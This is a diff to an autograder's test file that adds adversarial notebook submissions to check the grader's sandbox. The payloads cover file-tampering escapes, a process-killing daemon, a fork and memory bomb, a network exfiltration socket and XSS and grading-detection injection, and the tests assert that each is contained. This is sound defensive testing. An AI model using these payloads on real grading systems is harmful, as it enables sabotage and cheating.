@@ -3,16 +3,24 @@
 One run of the real grader command (`python -m tfcourse.grading grade --jobs 2`) on a
 scratch course reduced to notebook 1 grades every submission below together with correct
 ones. Each submission is the model solution with one kind of damage; its expected scores
-come from the controls graded in the same run: `reference` (the model solution) and
-`bug-unscaled` (the model solution with one real bug, what a cheater's code deserves).
+come from the controls graded in the same run: `reference` (the model solution),
+`bug-unscaled` (the model solution with one real bug, what a cheater's code deserves) and
+`blank` (the release as received). Some attack the sandbox each submission runs in: they
+write wherever the kit and its environment live, leave a daemon behind, exhaust memory and
+processes, and call the network.
 """
 
 from __future__ import annotations
 
 import copy
+import hashlib
 import shutil
 import sqlite3
+import sys
+import time
+import uuid
 from collections.abc import Callable
+from pathlib import Path
 
 import nbformat
 import pytest
@@ -24,12 +32,17 @@ from tfcourse.grading.samples import NOISY, UNSCALED, reference_notebooks
 from tfcourse.grading.scores import read_scores
 from tfcourse.grading.summary import load_records
 
-from conftest import one_notebook_course, run_kit
+from conftest import REPO, one_notebook_course, run_kit
 
 pytestmark = pytest.mark.slow
 
 NOTEBOOK = "01_attention"
-LIMITS = ("--jobs", "2", "--cell-timeout", "20", "--notebook-timeout", "240", "--memory-mb", "2048")
+LIMITS = (
+    *("--jobs", "2", "--cell-timeout", "20", "--notebook-timeout", "240"),
+    *("--memory-mb", "2048", "--submission-memory-mb", "2560", "--processes", "200"),
+)
+DAEMON_MARKER = f"tfcourse-adversarial-daemon-{uuid.uuid4().hex}"
+"""Found in the command line of the daemon a submission leaves behind."""
 PASSING_TESTS = (
     "from otter.test_files import test_case\n"
     "OK_FORMAT = False\n"
@@ -133,6 +146,133 @@ def tampered_tests(notebook: Notebook) -> None:
     )
 
 
+def escapes(notebook: Notebook) -> None:
+    """The buggy code, and a cell that writes a passing test file, a `.pth` file and a git
+    hook wherever the kit, its environment and the other submissions live."""
+    unscaled(notebook)
+    add_cell(
+        notebook,
+        "sdpa",
+        "import site, sys\n"
+        "from pathlib import Path\n"
+        "import tfcourse\n"
+        "kit = Path(tfcourse.__file__).resolve().parents[2]\n"
+        "targets = [kit / 'source/transformers/tests/q1_sdpa.py', kit / 'nbgrader_config.py',\n"
+        "           kit / '.git/hooks/pre-commit', Path(site.getsitepackages()[0]) / 'zz.pth',\n"
+        "           Path(tfcourse.__file__).parent / 'checking.py']\n"
+        "targets += [p / 'submitted' for p in Path.cwd().parents]\n"
+        "targets += list(Path.cwd().parents[2].rglob('*.py')) + [Path('/tmp/../etc/owned')]\n"
+        "for target in targets:\n"
+        "    try:\n"
+        f"        Path(target).write_text({PASSING_TESTS!r})\n"
+        "        print('WROTE', target)\n"
+        "    except OSError:\n"
+        "        pass\n",
+    )
+
+
+DAEMON = (
+    "import os, signal, sys, time\n"
+    "from pathlib import Path\n"
+    "end = time.time() + 900\n"
+    "while time.time() < end:\n"
+    "    for pid in range(100, 70000):\n"  # the grader's processes, if they were visible
+    "        try: os.kill(pid, signal.SIGKILL)\n"
+    "        except OSError: pass\n"
+    "    for name in ('gradebook.db', 'grades.csv'):\n"
+    "        for folder in [Path.cwd(), *Path.cwd().parents]:\n"
+    "            try: (folder / name).write_text('owned')\n"
+    "            except OSError: pass\n"
+    "    time.sleep(1)\n"
+)
+
+
+def daemon(notebook: Notebook) -> None:
+    """The buggy code, and a cell that leaves a daemon behind which, for 15 minutes, kills
+    every process it can and rewrites any gradebook or grades file it finds."""
+    unscaled(notebook)
+    add_cell(
+        notebook,
+        "sdpa",
+        "import subprocess, sys\n"
+        f"subprocess.Popen([sys.executable, '-c', {DAEMON!r}, {DAEMON_MARKER!r}],\n"
+        "                 start_new_session=True, stdin=subprocess.DEVNULL,\n"
+        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
+    )
+
+
+def exhausts(notebook: Notebook) -> None:
+    """The model solution, and cells that hold 3 GiB in three child processes (each under the
+    kernel's own limit) and fork hundreds of processes."""
+    add_cell(
+        notebook,
+        "sdpa",
+        "import subprocess, sys\n"
+        'hold = \'block = bytearray(2**30); block[::4096] = b"x" * len(block[::4096]); '
+        "import time; time.sleep(15)'\n"
+        "children = [subprocess.Popen([sys.executable, '-c', hold]) for _ in range(3)]\n"
+        "print([child.wait() for child in children])\n",
+    )
+    add_cell(
+        notebook,
+        "masks",
+        "import os, time\n"
+        "for _ in range(1000):\n"
+        "    try:\n"
+        "        if os.fork() == 0:\n"
+        "            time.sleep(5)\n"
+        "            os._exit(0)\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "time.sleep(6)\n",
+    )
+
+
+def calls_out(notebook: Notebook) -> None:
+    """The model solution, and a cell that sends its answers to a server on the network."""
+    add_cell(
+        notebook,
+        "sdpa",
+        "import socket\n"
+        "for address in (('192.0.2.1', 80), ('127.0.0.1', 22)):\n"
+        "    try:\n"
+        "        socket.create_connection(address, timeout=2).sendall(b'answers')\n"
+        "    except OSError:\n"
+        "        pass\n",
+    )
+
+
+SMUGGLED = "SMUGGLED-WHILE-GRADED"
+
+
+def injects(notebook: Notebook) -> None:
+    """The model solution; a written answer and stored outputs that carry scripts; and a cell
+    whose output while graded differs from the one submitted (it would smuggle text)."""
+    answer = next(
+        cell
+        for cell in notebook.cells
+        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution")
+    )
+    answer.source += "\n<script>alert('owned')</script><img src=x onerror=alert('owned')>"
+    script = "<script>alert('owned')</script>"
+    add_cell(
+        notebook,
+        "sdpa",
+        "import os\n"
+        "from IPython.display import HTML, display\n"
+        f"display(HTML({script!r}))\n"
+        f"print({SMUGGLED[:4]!r} + {SMUGGLED[4:]!r} if os.environ.get('NBGRADER_EXECUTION')"
+        " else 'my own run')\n",
+    )
+    index = cell_index(notebook, "sdpa") + 1
+    notebook.cells[index].outputs = [
+        nbformat.v4.new_output(
+            "display_data", data={"text/html": script, "text/plain": "<HTML object>"}
+        ),
+        nbformat.v4.new_output("stream", name="stdout", text="my own run\n"),
+    ]
+
+
 def syntax_error_and_huge_output(notebook: Notebook) -> None:
     syntax_error(notebook)
     cell = notebook.cells[cell_index(notebook, "sdpa")]
@@ -148,6 +288,11 @@ def noisy(notebook: Notebook) -> None:
 DAMAGE: dict[str, Callable[[Notebook], None]] = {
     "reference": lambda notebook: None,
     "bug-unscaled": unscaled,
+    "escapes": escapes,
+    "daemon": daemon,
+    "exhausts": exhausts,
+    "calls-out": calls_out,
+    "injects": injects,
     "noisy-correct": noisy,
     "syntax-error": syntax_error_and_huge_output,
     "runaway": runaway,
@@ -172,15 +317,46 @@ def write_submissions(course: Course) -> None:
     missing = course.submitted_dir / "missing-notebook" / course.assignment
     shutil.copytree(course.release_dir, missing)
     (missing / f"{NOTEBOOK}.ipynb").unlink()
+    shutil.copytree(course.release_dir, course.submitted_dir / "blank" / course.assignment)
+
+
+def kit_digest(course: Course) -> str:
+    """A digest of every file a submission could try to tamper with for good: the graded
+    course (its sources, release and configuration), the kit's checkout and environment."""
+    digest = hashlib.sha256()
+    site_packages = next(Path(sys.prefix).glob("lib/python*/site-packages"))
+    roots = [course.root / "source", course.root / "release", REPO / "helpers", REPO / "source"]
+    files = [course.root / "nbgrader_config.py", REPO / "nbgrader_config.py"]
+    for root in [*roots, REPO / ".git" / "hooks"]:
+        files += sorted(p for p in root.rglob("*") if p.is_file() and "__pycache__" not in p.parts)
+    files += sorted(site_packages.glob("*.pth"))
+    for path in files:
+        digest.update(str(path).encode() + b"\0" + path.read_bytes())
+    return digest.hexdigest()
+
+
+def daemons_alive() -> list[int]:
+    """Processes of the daemon a submission started (none may outlive its grading)."""
+    alive = []
+    for entry in Path("/proc").iterdir():
+        try:
+            if entry.name.isdigit() and DAEMON_MARKER in (entry / "cmdline").read_text():
+                alive.append(int(entry.name))
+        except OSError:
+            continue
+    return alive
 
 
 @pytest.fixture(scope="module")
 def graded(tmp_path_factory):
     course = one_notebook_course(tmp_path_factory.mktemp("adversarial"))
     write_submissions(course)
+    before = kit_digest(course)
+    start = time.monotonic()
     result = run_kit(course, "grade", *LIMITS)
+    seconds = time.monotonic() - start
     assert result.returncode == 0, result.stdout + result.stderr
-    return course, result
+    return course, result, before, seconds
 
 
 def scores(course: Course, student: str) -> dict[str, float]:
@@ -193,13 +369,53 @@ def issues(course: Course, student: str) -> str:
 
 
 def test_the_controls_score_as_expected(graded):
-    course, _ = graded
+    course, *_ = graded
     full = {s.question: s.max_score for s in read_scores(course, ["reference"]) if s.autograded}
     assert scores(course, "reference") == full
     bug = scores(course, "bug-unscaled")
     assert 0 < bug["q1_sdpa"] < full["q1_sdpa"]
     assert scores(course, "noisy-correct") == full  # stderr and warnings cost nothing
+    assert set(scores(course, "blank").values()) == {0.0}
     assert issues(course, "reference") == ""
+
+
+@pytest.mark.parametrize(
+    ("student", "deserves", "named"),
+    [
+        ("escapes", "bug-unscaled", ["tried to write outside its own folders"]),
+        ("daemon", "bug-unscaled", ["left 1 process(es) running"]),
+        ("exhausts", "reference", ["memory limit of the whole submission", "limit on processes"]),
+        ("calls-out", "reference", ["tried to reach the network (2 time(s)"]),
+    ],
+)
+def test_attacks_on_the_sandbox_earn_what_the_code_deserves_and_are_named(
+    graded, student, deserves, named
+):
+    course, *_ = graded
+    assert scores(course, student) == scores(course, deserves)
+    found = issues(course, student)
+    for words in named:
+        assert words in found, found
+
+
+def test_feedback_shows_what_the_student_submitted_and_runs_no_script(graded):
+    course, *_ = graded
+    page = course.root / "feedback" / "injects" / course.assignment / f"{NOTEBOOK}.html"
+    text = page.read_text()
+    assert "my own run" in text and SMUGGLED not in text
+    assert "<script>alert" not in text and "onerror" not in text
+    assert scores(course, "injects") == scores(course, "reference")
+
+
+def test_no_file_of_the_course_kit_or_environment_changed(graded):
+    course, _, before, _ = graded
+    assert kit_digest(course) == before
+
+
+def test_nothing_a_submission_started_outlives_the_run(graded):
+    *_, seconds = graded
+    assert daemons_alive() == []
+    assert seconds < 600, "the daemon (alive for 15 minutes) held up the run"
 
 
 @pytest.mark.parametrize(
@@ -210,7 +426,7 @@ def test_the_controls_score_as_expected(graded):
     ],
 )
 def test_limits_cost_only_the_cells_that_hit_them(graded, student, named):
-    course, _ = graded
+    course, *_ = graded
     assert scores(course, student) == scores(course, "reference")
     found = issues(course, student)
     for words in named:
@@ -218,13 +434,13 @@ def test_limits_cost_only_the_cells_that_hit_them(graded, student, named):
 
 
 def test_a_limit_is_explained_in_the_feedback(graded):
-    course, _ = graded
+    course, *_ = graded
     page = course.root / "feedback" / "runaway" / course.assignment / f"{NOTEBOOK}.html"
     assert "ran longer than the limit of 20 s per cell" in page.read_text()
 
 
 def test_feedback_written_in_parallel_shows_each_student_their_own_score(graded):
-    course, _ = graded
+    course, *_ = graded
     with Gradebook(f"sqlite:///{course.gradebook}") as gradebook:
         totals = {
             student: gradebook.find_submission_notebook(NOTEBOOK, course.assignment, student)
@@ -241,7 +457,7 @@ def test_feedback_written_in_parallel_shows_each_student_their_own_score(graded)
 
 
 def test_a_syntax_error_costs_its_question_and_huge_outputs_nothing(graded):
-    course, _ = graded
+    course, *_ = graded
     own = scores(course, "syntax-error")
     assert own["q1_masks"] == 0
     assert own["q1_sdpa"] == scores(course, "reference")["q1_sdpa"]
@@ -250,7 +466,7 @@ def test_a_syntax_error_costs_its_question_and_huge_outputs_nothing(graded):
 
 
 def test_deleted_copied_moved_and_retyped_cells_are_repaired(graded):
-    course, _ = graded
+    course, *_ = graded
     expected = dict(scores(course, "reference"), q1_masks=0.0)  # its answer was deleted
     assert scores(course, "rearranged") == expected
     found = issues(course, "rearranged")
@@ -260,14 +476,14 @@ def test_deleted_copied_moved_and_retyped_cells_are_repaired(graded):
 
 @pytest.mark.parametrize("student", ["tampered-tests", "patched"])
 def test_tampering_earns_only_what_the_code_deserves(graded, student):
-    course, _ = graded
+    course, *_ = graded
     deserved = scores(course, "bug-unscaled")
     assert scores(course, student)["q1_sdpa"] == deserved["q1_sdpa"]
     assert issues(course, student), "the summary must name the problem"
 
 
 def test_unreadable_or_missing_notebooks_score_zero_and_are_named(graded):
-    course, _ = graded
+    course, *_ = graded
     for student, words in (
         ("invalid-json", "not a valid notebook"),
         ("missing-notebook", "missing"),
@@ -277,7 +493,7 @@ def test_unreadable_or_missing_notebooks_score_zero_and_are_named(graded):
 
 
 def test_the_summary_lists_every_damaged_submission_and_no_control(graded):
-    _, result = graded
+    _, result, *_ = graded
     attention = result.stdout.split("need attention:")[1]
     flagged = {line.split()[0] for line in attention.splitlines() if line.startswith("  ")}
     damaged = set(DAMAGE) - {"reference", "bug-unscaled", "noisy-correct"}
@@ -285,7 +501,7 @@ def test_the_summary_lists_every_damaged_submission_and_no_control(graded):
 
 
 def test_hidden_tests_never_reach_feedback_even_when_printed(graded):
-    course, _ = graded
+    course, *_ = graded
     hidden = []
     for path in course.source_tests_dir.glob("q1_*.py"):
         source = path.read_text().splitlines()
@@ -300,19 +516,18 @@ def test_hidden_tests_never_reach_feedback_even_when_printed(graded):
     for page in (p for p in pages if p.is_file()):
         text = page.read_text()
         assert not any(line in text for line in hidden), page
-    assert "withheld from feedback" in issues(course, "tampered-tests")
 
 
 def test_the_class_gradebook_is_intact(graded):
-    course, _ = graded
+    course, *_ = graded
     with sqlite3.connect(course.gradebook) as db:
         assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
         (count,) = db.execute("SELECT COUNT(*) FROM submitted_assignment").fetchone()
-    assert count == len(DAMAGE) + 2
+    assert count == len(DAMAGE) + 3
 
 
 def test_parallel_grades_equal_serial_grades(graded, tmp_path):
-    course, _ = graded
+    course, *_ = graded
     serial = Course(tmp_path / "serial")
     shutil.copytree(
         course.root,
@@ -332,7 +547,7 @@ def test_parallel_grades_equal_serial_grades(graded, tmp_path):
 
 
 def test_rerunning_changes_nothing_and_regrades_only_what_changed(graded):
-    course, _ = graded
+    course, *_ = graded
     feedback = course.root / "feedback"
     before = {p: p.read_bytes() for p in feedback.rglob("*.html")}
     times = {p: p.stat().st_mtime_ns for p in before}
@@ -352,4 +567,4 @@ def test_rerunning_changes_nothing_and_regrades_only_what_changed(graded):
     assert changed == {feedback / "bug-unscaled" / course.assignment / f"{NOTEBOOK}.html"}
     with sqlite3.connect(course.gradebook) as db:
         (count,) = db.execute("SELECT COUNT(*) FROM submitted_assignment").fetchone()
-    assert count == len(DAMAGE) + 2
+    assert count == len(DAMAGE) + 3
